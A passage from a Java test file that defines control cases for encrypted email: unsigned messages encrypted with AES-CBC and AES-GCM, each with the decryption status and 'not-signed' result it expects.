                Expectation.of(decryption("decrypted"), status("valid"), signer(MANAGER)));
        add(k, "control-unsigned-cbc", "unsigned mail encrypted with AES-CBC", "decrypted-unauthenticated, not-signed",
                Parties.encryptCbc(outer("From: " + MANAGER, "cbc"), textPart(HARMLESS), p.johnny),
                Expectation.of(decryption("decrypted-unauthenticated"), status("not-signed"),
                        d -> org.assertj.core.api.Assertions.assertThat(d.raw()).contains(HARMLESS)));
        add(k, "control-unsigned-gcm", "unsigned mail encrypted with AES-GCM", "decrypted, not-signed",
                Parties.encryptGcm(outer("From: " + MANAGER, "gcm"), textPart(HARMLESS), p.johnny),
                Expectation.of(decryption("decrypted"), status("not-signed")));
    }
}
